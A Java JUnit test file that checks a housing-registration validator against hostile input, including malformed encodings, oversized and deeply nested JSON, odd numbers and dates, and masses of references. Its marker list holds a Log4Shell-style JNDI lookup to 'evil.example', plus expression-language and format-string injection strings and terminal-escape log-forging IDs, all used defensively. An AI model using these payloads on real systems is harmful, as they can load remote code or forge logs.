package org.renfang.validation;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.function.Supplier;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.renfang.model.json.RegistryReader;
import org.renfang.model.json.RenfangJson;
import org.renfang.registry.Registry;
import org.renfang.validation.finding.Finding;
import org.renfang.validation.finding.RuleCode;

/**
 * Hostile input through the public entry points of validation ({@link Validator#validate(byte[],
 * org.renfang.registry.RegistryView, LocalDate)}, {@link Validator#validate(java.io.InputStream,
 * org.renfang.registry.RegistryView, LocalDate)} and {@link Validator#check}): each gives a report
 * with a finding at the offending place (or, for input the wire format accepts, a report like that
 * of the plain input), within a bounded time, and nothing of the input's values appears in any
 * message, path or parameter.
 */
class HostileInputTest {

    /** Generous for a loaded 2-core machine; a hang or quadratic blow-up takes minutes. */
    private static final Duration BOUND = Duration.ofSeconds(20);
    private static final String REG = "\"schema\": \"renfang/registration@1\"";
    /** Strings that look like message templates, EL or log lookups. */
    private static final List<String> MARKERS = List.of("${jndi:ldap://evil.example/a}", "{field}", "{reason}",
            "#{7*7}", "${7*7}", "%s%n%x", "{0}", "$${ctx:x}");

    @BeforeAll
    static void warmUp() {
        // class loading and the Hibernate Validator bootstrap, outside the timed cases
        FuzzSupport.VALIDATOR.validate(premisesWith(", \"floorArea\": 0").getBytes(StandardCharsets.UTF_8),
                FuzzSupport.CONTEXT, FuzzSupport.AS_OF).toJson(Locale.ENGLISH);
    }

    private static Report validate(byte[] payload) {
        return assertTimeoutPreemptively(BOUND,
                () -> FuzzSupport.VALIDATOR.validate(payload, FuzzSupport.CONTEXT, FuzzSupport.AS_OF));
    }

    private static Report validate(String payload) {
        return validate(payload.getBytes(StandardCharsets.UTF_8));
    }

    private static Report check(byte[] registry) {
        return assertTimeoutPreemptively(BOUND, () -> FuzzSupport.VALIDATOR
                .check(Registry.of(RegistryReader.readRegistry(new ByteArrayInputStream(registry))), FuzzSupport.AS_OF));
    }

    private static Report check(String registry) {
        return check(registry.getBytes(StandardCharsets.UTF_8));
    }

    /** The report holds a finding of the rule at the path, serializes, and echoes none of the markers. */
    private static Report assertFinding(Report r, RuleCode rule, String path) {
        FuzzSupport.checkReport(r);
        assertThat(r.findings()).as(() -> r.toJson(Locale.ENGLISH))
                .anySatisfy(f -> {
                    assertThat(f.rule()).isEqualTo(rule);
                    assertThat(f.path()).isEqualTo(path);
                });
        assertNoMarkers(r);
        return r;
    }

    private static void assertNoMarkers(Report r) {
        for (Locale l : new Locale[] {Locale.ENGLISH, Locale.forLanguageTag("zh-CN")}) {
            String json = r.toJson(l);
            for (String m : MARKERS) {
                assertThat(json).doesNotContain(m);
            }
        }
    }

    private static String persons(String personJson) {
        return "{" + REG + ", \"persons\": [" + personJson + "]}";
    }

    private static String premisesWith(String fields) {
        return "{" + REG + ", \"premises\": [{\"id\": \"H9\", \"address\": {\"division\": \"650203\", \"line\": \"l\"},"
                + " \"kind\": \"APARTMENT\", \"use\": \"RESIDENTIAL\"" + fields + "}]}";
    }

    // -----------------------------------------------------------------------------------------
    // Encodings and garbage

    @Test
    void emptyInput_isMalformed() {
        assertFinding(validate(new byte[0]), RuleCode.JSON_MALFORMED, "");
        assertFinding(check(new byte[0]), RuleCode.JSON_MALFORMED, "");
    }

    @Test
    void whitespaceOnly_isMalformed() {
        assertFinding(validate(" \n\t "), RuleCode.JSON_MALFORMED, "");
    }

    @Test
    void binaryGarbage_isMalformed() {
        byte[] garbage = new byte[4096];
        new java.util.Random(7).nextBytes(garbage);
        garbage[0] = (byte) 0x9c;
        assertFinding(validate(garbage), RuleCode.JSON_MALFORMED, "");
        assertFinding(check(garbage), RuleCode.JSON_MALFORMED, "");
    }

    @Test
    void nulBytesAndControlCharacters_areMalformed() {
        assertFinding(validate("{" + REG + ", \"persons\": [{\"id\": \"P1\u0000\", \"name\": \"x\"}]}"),
                RuleCode.JSON_MALFORMED, "/persons/0/id");
        assertThat(validate(new byte[] {0, 0, 0, 0}).isValid()).isFalse();
    }

    @Test
    void invalidUtf8_isMalformed_notReplaced() {
        byte[] head = ("{" + REG + ", \"persons\": [{\"id\": \"P50\", \"name\": \"").getBytes(StandardCharsets.UTF_8);
        byte[] tail = "\"}]}".getBytes(StandardCharsets.UTF_8);
        for (byte[] bad : List.of(new byte[] {(byte) 0xc3, 0x28}, new byte[] {(byte) 0xff}, new byte[] {(byte) 0xf8,
                (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80}, new byte[] {(byte) 0xe4, (byte) 0xba})) {
            byte[] doc = concat(head, bad, tail);
            Report r = validate(doc);
            assertThat(r.findings(RuleCode.JSON_MALFORMED)).as(Arrays.toString(bad)).isNotEmpty();
            assertThat(r.isValid()).isFalse();
            assertNoMarkers(r);
        }
    }

    /**
     * JSON's {@code \\uD800} escape gives a lone UTF-16 surrogate; in an id it reaches the report,
     * which still writes well-formed JSON (the surrogate escaped).
     */
    @Test
    void loneSurrogates_inIds_giveAWellFormedReport() {
        byte[] doc = ("{" + REG + ", \"residences\": [{\"id\": \"R\\uD800\", \"person\": \"P\\uD800\","
                + " \"premises\": \"H\\uDC00x\", \"basis\": {\"type\": \"OWNER\"},"
                + " \"movedIn\": \"2026-11-01\", \"registeredOn\": \"2026-11-01\"}]}").getBytes(StandardCharsets.UTF_8);
        Report r = validate(doc);
        FuzzSupport.checkReport(r);
        assertThat(r.findings(RuleCode.REFERENCE_UNKNOWN)).isNotEmpty();
        assertThat(r.toJson(Locale.ENGLISH)).contains("\"residence:R\\uD800\"").contains("premises:H\\uDC00x");
    }

    /**
     * An encoded surrogate (CESU-8, {@code ED A0 80}) is not UTF-8: Jackson's decoder refuses it
     * (Jackson 2.23 does; 2.20 let it through as a lone surrogate), so the document
     * is malformed, and the report says so in well-formed JSON.
     */
    @Test
    void encodedSurrogate_isMalformedUtf8() {
        byte[] head = ("{" + REG + ", \"residences\": [{\"id\": \"R").getBytes(StandardCharsets.UTF_8);
        byte[] tail = ("\", \"person\": \"P1\", \"premises\": \"H1\", \"basis\": {\"type\": \"OWNER\"},"
                + " \"movedIn\": \"2026-11-01\", \"registeredOn\": \"2026-11-01\"}]}").getBytes(StandardCharsets.UTF_8);
        Report r = validate(concat(head, new byte[] {(byte) 0xed, (byte) 0xa0, (byte) 0x80}, tail));
        FuzzSupport.checkReport(r);
        assertThat(r.findings(RuleCode.JSON_MALFORMED)).isNotEmpty();
        assertThat(r.isValid()).isFalse();
        assertNoMarkers(r);
    }

    /**
     * A UTF-8 byte order mark is skipped (RFC 8259 allows ignoring it); UTF-16 and UTF-32, with or
     * without a mark, are detected by the parser: either way the report equals that of the UTF-8 text.
     */
    @ParameterizedTest
    @ValueSource(strings = {"UTF-8-BOM", "UTF-16", "UTF-16BE", "UTF-16LE", "UTF-32BE", "UTF-32LE"})
    void bomsAndUtf16_giveTheReportOfTheUtf8Text(String encoding) {
        String text = persons("{\"id\": \"P50\", \"name\": \"人房\", \"documents\": [{\"type\": \"PASSPORT\","
                + " \"number\": \"E1234567\"}]}");
        Report plain = validate(text);
        byte[] bytes = encoding.equals("UTF-8-BOM")
                ? concat(new byte[] {(byte) 0xef, (byte) 0xbb, (byte) 0xbf}, text.getBytes(StandardCharsets.UTF_8))
                : text.getBytes(Charset.forName(encoding));
        Report other = validate(bytes);
        assertThat(other.toJson(Locale.ENGLISH)).isEqualTo(plain.toJson(Locale.ENGLISH));
    }

    @Test
    void doubleBom_isMalformed() {
        byte[] bom = {(byte) 0xef, (byte) 0xbb, (byte) 0xbf};
        assertFinding(validate(concat(bom, bom, persons("").getBytes(StandardCharsets.UTF_8))),
                RuleCode.JSON_MALFORMED, "");
    }

    // -----------------------------------------------------------------------------------------
    // Size and depth

    @Test
    void payloadOverOneMebibyte_isRefusedBeforeParsing() {
        byte[] doc = padded(RenfangJson.MAX_PAYLOAD_BYTES + 1);
        Report r = assertFinding(validate(doc), RuleCode.JSON_MALFORMED, "");
        assertThat(r.findings()).hasSize(1);
        assertThat(r.findings().get(0).params()).containsEntry("reason",
                "document of " + (RenfangJson.MAX_PAYLOAD_BYTES + 1) + " bytes exceeds " + RenfangJson.MAX_PAYLOAD_BYTES);
        Report streamed = assertTimeoutPreemptively(BOUND, () -> FuzzSupport.VALIDATOR
                .validate(new ByteArrayInputStream(padded(20 << 20)), FuzzSupport.CONTEXT, FuzzSupport.AS_OF));
        assertThat(streamed.findings(RuleCode.JSON_MALFORMED)).hasSize(1);
    }

    @Test
    void payloadOfExactlyOneMebibyte_isRead() {
        Report r = validate(padded(RenfangJson.MAX_PAYLOAD_BYTES));
        assertThat(r.findings(RuleCode.JSON_MALFORMED)).isEmpty();
    }

    /** A valid payload padded with spaces to exactly {@code size} bytes. */
    private static byte[] padded(int size) {
        byte[] head = ("{" + REG + ", \"persons\": []").getBytes(StandardCharsets.UTF_8);
        byte[] doc = new byte[size];
        Arrays.fill(doc, (byte) ' ');
        System.arraycopy(head, 0, doc, 0, head.length);
        doc[size - 1] = '}';
        return doc;
    }

    @ParameterizedTest
    @ValueSource(ints = {33, 1_000, 100_000})
    void deepNesting_isALimitFinding(int depth) {
        String doc = "{" + REG + ", \"persons\": [{\"id\": \"P50\", \"name\": \"x\", \"documents\": " + "[".repeat(depth)
                + "]".repeat(depth) + "}]}";
        Report r = validate(doc);
        assertThat(r.findings(RuleCode.JSON_MALFORMED)).singleElement()
                .satisfies(f -> assertThat(f.params().get("reason")).isEqualTo(
                        "limit exceeded: nesting exceeds depth " + RenfangJson.MAX_NESTING_DEPTH));
        Report c = check(doc.replace("registration@1", "registry@1"));
        assertThat(c.findings(RuleCode.JSON_MALFORMED)).hasSize(1);
    }

    @Test
    void nestingAtTheLimit_isRead() {
        // document (1) > persons array (2) > person (3) > documents (4) > document (5) > unknown field holding arrays
        int depth = RenfangJson.MAX_NESTING_DEPTH - 5;
        String doc = persons("{\"id\": \"P50\", \"name\": \"x\", \"documents\": [{\"type\": \"OTHER\", \"number\": \"1\","
                + " \"x\": " + "[".repeat(depth) + "]".repeat(depth) + "}]}");
        Report r = validate(doc);
        assertThat(r.findings(RuleCode.JSON_MALFORMED)).isEmpty();
        assertFinding(r, RuleCode.FIELD_INVALID, "/persons/0/documents/0/x");
    }

    @Test
    void hugeString_isALimitFinding_atItsField() {
        Report r = validate(persons("{\"id\": \"P50\", \"name\": \"" + "x".repeat(RenfangJson.MAX_STRING_LENGTH + 1)
                + "\"}"));
        assertThat(r.findings()).anySatisfy(f -> {
            assertThat(f.rule()).isIn(RuleCode.JSON_MALFORMED, RuleCode.FIELD_INVALID);
            assertThat(f.path()).startsWith("/persons/0");
            assertThat(f.params().get("reason")).contains("string exceeds " + RenfangJson.MAX_STRING_LENGTH);
        });
        Report huge = validate(persons("{\"id\": \"P50\", \"name\": \"" + "x".repeat(1_000_000) + "\"}"));
        assertThat(huge.isValid()).isFalse();
    }

    @Test
    void hugeFieldName_isALimitFinding() {
        Report r = validate("{" + REG + ", \"" + "k".repeat(100_000) + "\": 1}");
        assertThat(r.findings(RuleCode.JSON_MALFORMED)).singleElement().satisfies(f -> assertThat(
                f.params().get("reason")).contains("field name exceeds " + RenfangJson.MAX_NAME_LENGTH));
    }

    // -----------------------------------------------------------------------------------------
    // Numbers

    @ParameterizedTest
    @ValueSource(strings = {"1" + "0000000000" + "0000000000" + "0000000000" + "000",
            "1e999999999", "1e-999999999", "\"1e-999999999\"", "1E+2147483647", "0.000000000000000000000000000000001",
            "123456789012345678901234567890.123"})
    void hugeOrTinyAreas_areFindings_notBillionDigitArithmetic(String area) {
        Report r = validate(premisesWith(", \"floorArea\": " + area + ", \"rooms\": [{\"id\": \"H9-1\","
                + " \"kind\": \"BEDROOM\", \"area\": " + area + "}, {\"id\": \"H9-2\", \"kind\": \"BEDROOM\","
                + " \"area\": 12}]"));
        assertThat(r.findings()).anySatisfy(f -> {
            assertThat(f.rule()).isIn(RuleCode.FIELD_INVALID, RuleCode.JSON_MALFORMED);
            assertThat(f.path()).startsWith("/premises/0");
        });
        assertThat(r.isValid()).isFalse();
        Report c = check(premisesWith(", \"floorArea\": " + area).replace("registration@1", "registry@1"));
        assertThat(c.isValid()).isFalse();
    }

    /** A decimal may have {@value RenfangJson#MAX_NUMBER_LENGTH} digits after the point, written out or as an exponent. */
    @ParameterizedTest
    @ValueSource(strings = {"1e-32", "\"1E-32\"", "0.0000000000000000000000000000001", "\"123456.01234567890123456789\""})
    void areasAtTheDigitLimit_areRead(String area) {
        Report ok = validate(premisesWith(", \"floorArea\": " + area));
        assertThat(ok.findings()).noneSatisfy(f -> assertThat(f.path()).startsWith("/premises/0/floorArea"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"1e-33", "\"1E-33\"", "0.000000000000000000000000000000001", "1e32", "\"1E+32\""})
    void areasJustOverTheDigitLimit_areFindings(String area) {
        Report r = validate(premisesWith(", \"floorArea\": " + area));
        assertThat(r.findings()).anySatisfy(f -> {
            assertThat(f.rule()).isIn(RuleCode.FIELD_INVALID, RuleCode.JSON_MALFORMED);
            assertThat(f.path()).isEqualTo("/premises/0/floorArea");
        });
    }

    @ParameterizedTest
    @ValueSource(strings = {"NaN", "\"NaN\"", "Infinity", "\"Infinity\"", "-Infinity", "\"-Infinity\"", "+1", "0x10",
            "01", "1.", ".5", "\"\"", "\"12 m2\"", "true", "[]", "{}"})
    void nanInfinityAndOddNumbers_areFindings(String area) {
        Report r = validate(premisesWith(", \"floorArea\": " + area));
        assertThat(r.isValid()).as(area).isFalse();
        assertThat(r.findings()).anySatisfy(f -> {
            assertThat(f.rule()).isIn(RuleCode.FIELD_INVALID, RuleCode.JSON_MALFORMED);
            assertThat(f.path()).startsWith("/premises/0");
        });
        assertNoMarkers(r);
    }

    @ParameterizedTest
    @ValueSource(strings = {"0", "-1", "-0.5", "-1e3"})
    void zeroOrNegativeAreas_areFieldInvalid(String area) {
        assertFinding(validate(premisesWith(", \"floorArea\": " + area)), RuleCode.FIELD_INVALID,
                "/premises/0/floorArea");
        assertFinding(validate(premisesWith(", \"rooms\": [{\"id\": \"H9-1\", \"kind\": \"BEDROOM\", \"area\": " + area
                + "}]")), RuleCode.FIELD_INVALID, "/premises/0/rooms/0/area");
    }

    @ParameterizedTest
    @ValueSource(strings = {"2147483648", "-1", "99999999999999999999", "1.5", "1e2", "\"3\""})
    void oddOccupantCounts_areFindings(String count) {
        Report r = validate("{" + REG + ", \"visits\": [{\"id\": \"V9\", \"premises\": \"H1\", \"agency\": \"O5\","
                + " \"at\": \"2026-11-20T10:00:00+08:00\", \"purpose\": \"OTHER\", \"observedOccupants\": " + count + "}]}");
        assertThat(r.findings()).as(count).anySatisfy(f -> {
            assertThat(f.rule()).isIn(RuleCode.FIELD_INVALID, RuleCode.JSON_MALFORMED);
            assertThat(f.path()).startsWith("/visits/0");
        });
    }

    // -----------------------------------------------------------------------------------------
    // Nulls, duplicates, dates

    @Test
    void nullsInsideArrays_areFieldInvalid() {
        assertFinding(validate("{" + REG + ", \"persons\": [null]}"), RuleCode.FIELD_INVALID, "/persons/0");
        assertFinding(validate("{" + REG + ", \"leases\": [{\"id\": \"L9\", \"premises\": \"H1\", \"lessor\":"
                + " {\"person\": \"P9\"}, \"lessees\": [\"P1\", null], \"start\": \"2026-11-01\", \"end\": \"2027-10-31\"}]}"),
                RuleCode.FIELD_INVALID, "/leases/0/lessees/1");
        assertFinding(validate(persons("{\"id\": \"P50\", \"name\": \"x\", \"documents\": [null]}")),
                RuleCode.FIELD_INVALID, "/persons/0/documents/0");
        assertFinding(validate(premisesWith(", \"flags\": [null]")), RuleCode.FIELD_INVALID, "/premises/0/flags/0");
    }

    @Test
    void duplicateKeys_areMalformed_atTopLevelAndDeep() {
        assertFinding(validate("{" + REG + ", " + REG + "}"), RuleCode.JSON_MALFORMED, "/schema");
        Report deep = validate(persons("{\"id\": \"P50\", \"name\": \"a\", \"name\": \"b\"}"));
        assertThat(deep.findings(RuleCode.JSON_MALFORMED)).singleElement()
                .satisfies(f -> assertThat(f.params().get("reason")).isEqualTo("duplicate field"));
        Report deeper = validate(premisesWith(", \"address\": {\"division\": \"650203\", \"line\": \"l\"}"));
        assertThat(deeper.findings(RuleCode.JSON_MALFORMED)).hasSize(1);
    }

    @ParameterizedTest
    @ValueSource(strings = {"2026-02-30", "2026-13-01", "2026-00-10", "2025-02-29", "0000-01-01", "1799-12-31",
            "3000-01-01", "+10000-01-01", "-2026-01-01", "2026-1-1", "20260101", "2026-11-20T00:00", "${date}", ""})
    void impossibleOrOutOfRangeDates_areFieldInvalid(String date) {
        Report r = validate("{" + REG + ", \"residences\": [{\"id\": \"R50\", \"person\": \"P1\", \"premises\": \"H1\","
                + " \"basis\": {\"type\": \"OWNER\"}, \"movedIn\": \"" + date + "\", \"registeredOn\": \"2026-11-20\"}]}");
        assertFinding(r, RuleCode.FIELD_INVALID, "/residences/0/movedIn");
    }

    @Test
    void datesAtTheEdgesOfTheRange_runTheRules() {
        for (String[] days : new String[][] {{"1800-01-01", "2999-12-31"}, {"2999-12-31", "2999-12-31"},
                {"1800-01-01", "1800-01-01"}}) {
            Report r = validate("{" + REG + ", \"residences\": [{\"id\": \"R50\", \"person\": \"P3\", \"premises\":"
                    + " \"H1\", \"basis\": {\"type\": \"OTHER\"}, \"movedIn\": \"" + days[0] + "\", \"registeredOn\": \""
                    + days[1] + "\"}], \"leases\": [{\"id\": \"L50\", \"premises\": \"H4\", \"lessor\": {\"person\": \"P1\"},"
                    + " \"lessees\": [\"P2\"], \"start\": \"" + days[0] + "\", \"end\": \"" + days[1] + "\"}]}");
            FuzzSupport.checkReport(r);
            assertThat(r.findings(RuleCode.FIELD_INVALID)).isEmpty();
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"+999999999-12-31T23:59:59Z", "-999999999-01-01T00:00:00Z", "9999-12-31T23:59:59+18:00",
            "1000-01-01T00:00:00Z", "3000-01-01T00:00:00Z", "2026-11-20T10:00:00", "2026-11-20T25:00:00Z", "1e20",
            "99999999999999999999"})
    void farOrOddVisitInstants_areFindings_andNoRuleThrows(String at) {
        String quoted = at.matches("[0-9e]+") ? at : "\"" + at + "\"";
        String visits = "\"visits\": [{\"id\": \"V50\", \"premises\": \"H1\", \"agency\": \"O5\", \"at\": " + quoted
                + ", \"purpose\": \"OTHER\", \"observedOccupants\": 1, \"label\": \"RF1:X\"}, {\"id\": \"V51\","
                + " \"premises\": \"H1\", \"agency\": \"O6\", \"at\": " + quoted + ", \"purpose\": \"OTHER\"}]";
        Report r = validate("{" + REG + ", " + visits + "}");
        assertThat(r.findings()).as(at).anySatisfy(f -> {
            assertThat(f.rule()).isIn(RuleCode.FIELD_INVALID, RuleCode.JSON_MALFORMED);
            assertThat(f.path()).startsWith("/visits/0");
        });
        Report c = check("{\"schema\": \"renfang/registry@1\", " + visits + "}");
        FuzzSupport.checkReport(c);
        assertThat(c.isValid()).isFalse();
    }

    // -----------------------------------------------------------------------------------------
    // Many references

    @Test
    void tensOfThousandsOfReferences_inOneLease_areBounded() {
        StringBuilder ids = new StringBuilder();
        for (int i = 0; i < 20_000; i++) {
            ids.append(i == 0 ? "" : ",").append("\"X").append(i).append('"');
        }
        Report r = validate("{" + REG + ", \"leases\": [{\"id\": \"L50\", \"premises\": \"H1\", \"lessor\": {\"person\":"
                + " \"P9\"}, \"lessees\": [" + ids + "], \"occupants\": [" + ids + "], \"rooms\": [" + ids.toString()
                .replace("\"X", "\"H1-X") + "], \"start\": \"2026-11-01\", \"end\": \"2027-10-31\"}]}");
        assertThat(r.findings(RuleCode.JSON_MALFORMED)).isEmpty();
        assertThat(r.findings(RuleCode.REFERENCE_UNKNOWN)).hasSizeGreaterThanOrEqualTo(40_000);
        FuzzSupport.checkReport(r);
    }

    @Test
    void tensOfThousandsOfRecords_referringToEachOther_areBounded() {
        StringBuilder doc = new StringBuilder("{\"schema\": \"renfang/registry@1\", \"residences\": [");
        int n = 20_000;
        for (int i = 0; i < n; i++) {
            doc.append(i == 0 ? "" : ",").append("{\"id\": \"R").append(i).append("\", \"person\": \"P1\", \"premises\":"
                    + " \"H1\", \"room\": \"H1-1\", \"basis\": {\"type\": \"FAMILY_MEMBER\", \"of\": \"P")
                    .append(i + 1).append("\"}, \"movedIn\": \"2026-0").append(1 + i % 9).append("-01\","
                    + " \"registeredOn\": \"2026-09-30\"}");
        }
        doc.append("]}");
        Report r = assertTimeoutPreemptively(Duration.ofSeconds(30), () -> FuzzSupport.VALIDATOR.check(
                Registry.of(RegistryReader.readRegistry(new ByteArrayInputStream(doc.toString().getBytes(StandardCharsets.UTF_8)))),
                FuzzSupport.AS_OF));
        assertThat(r.findings(RuleCode.REFERENCE_UNKNOWN)).isNotEmpty();
        assertThat(r.findings(RuleCode.RESIDENCE_OVERLAP)).isNotEmpty();
    }

    @Test
    void thousandsOfPayloadRecords_withRepeatedIds_areBounded() {
        StringBuilder doc = new StringBuilder("{" + REG + ", \"persons\": [");
        for (int i = 0; i < 10_000; i++) {
            doc.append(i == 0 ? "" : ",").append("{\"id\": \"P").append(i % 100).append("\", \"name\": \"n\","
                    + " \"documents\": [{\"type\": \"CN_RESIDENT_ID\", \"number\": \"11010519491231002X\"}]}");
        }
        doc.append("]}");
        Report r = validate(doc.toString());
        assertThat(r.findings(RuleCode.FIELD_INVALID)).anySatisfy(f -> assertThat(f.path()).isEqualTo("/persons/100/id"));
        FuzzSupport.checkReport(r);
    }

    // -----------------------------------------------------------------------------------------
    // Template- and EL-like strings

    @Test
    void templateAndElStrings_inValues_areNeverEchoed() {
        for (String m : MARKERS) {
            String q = com.fasterxml.jackson.core.io.JsonStringEncoder.getInstance().quoteAsString(m).length > 0
                    ? new String(com.fasterxml.jackson.core.io.JsonStringEncoder.getInstance().quoteAsString(m)) : m;
            String doc = "{" + REG + ", \"persons\": [{\"id\": \"P50\", \"name\": \"" + q + "\", \"documents\": [{\"type\":"
                    + " \"CN_RESIDENT_ID\", \"number\": \"" + q + "\"}, {\"type\": \"" + q + "\", \"number\": \"1\"}],"
                    + " \"nationality\": \"" + q + "\", \"birthDate\": \"" + q + "\", \"phone\": \"" + q + "\", \"sex\": \"" + q
                    + "\"}], \"premises\": [{\"id\": \"H50\", \"address\": {\"division\": \"" + q + "\", \"line\": \"" + q
                    + "\"}, \"kind\": \"" + q + "\", \"use\": \"RESIDENTIAL\", \"floorArea\": \"" + q + "\"}],"
                    + " \"organizations\": [{\"id\": \"O50\", \"name\": \"" + q + "\", \"creditCode\": \"" + q + "\"}],"
                    + " \"visits\": [{\"id\": \"V50\", \"premises\": \"H1\", \"agency\": \"O5\", \"inspector\": \"" + q
                    + "\", \"at\": \"2026-11-20T10:00:00+08:00\", \"purpose\": \"OTHER\", \"label\": \"" + q + "\"}],"
                    + " \"leases\": [{\"id\": \"L50\", \"premises\": \"H1\", \"lessor\": {\"person\": \"P9\"}, \"lessees\":"
                    + " [\"P1\"], \"start\": \"2026-11-01\", \"end\": \"2027-10-31\", \"filing\": {\"number\": \"" + q
                    + "\", \"filedOn\": \"2026-11-02\"}}]}";
            Report r = validate(doc);
            assertThat(r.isValid()).isFalse();
            assertThat(r.findings(RuleCode.FIELD_INVALID)).isNotEmpty();
            assertNoMarkers(r);
            assertNoMarkers(check(doc.replace("registration@1", "registry@1")));
        }
    }

    @Test
    void templateStrings_inFieldNames_areQuotedInThePath_neverExpanded() {
        Report r = validate("{" + REG + ", \"{reason}\": 1, \"persons\": [{\"id\": \"P50\", \"name\": \"x\","
                + " \"${jndi:ldap://evil.example/a}\": 2}]}");
        List<String> messages = new ArrayList<>();
        r.findings().forEach(f -> messages.add(f.message(Locale.ENGLISH)));
        assertThat(r.findings()).extracting(Finding::path)
                .contains("/{reason}", "/persons/0/${jndi:ldap:~1~1evil.example~1a}");
        // the field name goes in as text: "{reason}" is not replaced by the reason
        assertThat(messages).contains("Field {reason} is invalid: unknown field. Correct the value.",
                "Field ${jndi:ldap://evil.example/a} is invalid: unknown field. Correct the value.");
    }

    /**
     * Ids may hold any characters (the wire format puts no limit but length), so a reference can
     * carry a line break, a terminal escape or a bidirectional override into a message; messages
     * write those as {@code \\uXXXX}, so a host that prints or logs them gets no forged lines. The
     * parameters and subjects keep the exact id (the report's JSON escapes it).
     */
    @Test
    void controlAndFormatCharactersInIds_areEscapedInMessages() {
        String id = "P1\nVALID  profile CN\u001b[2J\u202eX\u2028Y\u0085";
        Report r = validate("{" + REG + ", \"residences\": [{\"id\": \"R50\", \"person\": \""
                + id.replace("\n", "\\n").replace("\u001b", "\\u001b").replace("\u202e", "\\u202e")
                        .replace("\u2028", "\\u2028").replace("\u0085", "\\u0085")
                + "\", \"premises\": \"H1\", \"basis\": {\"type\": \"OWNER\"}, \"movedIn\": \"2026-11-20\","
                + " \"registeredOn\": \"2026-11-20\"}]}");
        Finding f = r.findings(RuleCode.REFERENCE_UNKNOWN).stream().filter(x -> x.path().equals("/residences/0/person"))
                .findFirst().orElseThrow();
        assertThat(f.params().get("ref")).isEqualTo("person:" + id);
        for (Locale l : new Locale[] {Locale.ENGLISH, Locale.forLanguageTag("zh-CN")}) {
            String m = f.message(l);
            assertThat(m).doesNotContain("\n", "\u001b", "\u202e", "\u2028", "\u0085")
                    .contains("P1\\u000AVALID  profile CN\\u001B[2J\\u202EX\\u2028Y\\u0085");
        }
        // JSON escapes control characters itself; format characters stay as they are in params and subjects
        assertThat(r.toJson(Locale.ENGLISH)).doesNotContain("\u001b", "\n  VALID").contains("\\\\u001B[2J");
    }

    @Test
    void everyFindingOfAHostilePayload_isInTheCatalog() {
        Supplier<Report> r = () -> validate(("{" + REG + ", \"persons\": [{\"id\": \"\", \"name\": \"\"}, {}],"
                + " \"premises\": [{}], \"leases\": [{}], \"employments\": [{}], \"enrollments\": [{}],"
                + " \"residences\": [{}], \"visits\": [{}], \"extra\": []}"));
        Report report = r.get();
        assertThat(report.findings()).extracting(Finding::rule).contains(RuleCode.FIELD_REQUIRED, RuleCode.FIELD_INVALID);
        assertThat(report.toJson(Locale.ENGLISH)).isEqualTo(r.get().toJson(Locale.ENGLISH));
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] p : parts) {
            out.writeBytes(p);
        }
        return out.toByteArray();
    }
}
